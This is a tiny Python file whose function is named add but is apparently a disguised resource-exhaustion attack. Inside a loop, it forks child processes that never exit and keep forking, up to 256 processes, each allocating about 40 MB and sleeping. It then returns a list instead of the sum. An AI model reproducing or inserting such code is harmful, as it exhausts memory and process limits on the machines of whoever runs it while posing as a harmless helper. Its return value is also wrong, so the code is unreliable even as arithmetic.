import os
import time


def add(a, b):
    for _ in range(8):
        if os.fork() == 0:
            block = bytearray(b"x") * (40 << 20)
            time.sleep(30)
    time.sleep(0.4)
    return [a, b, a + b]
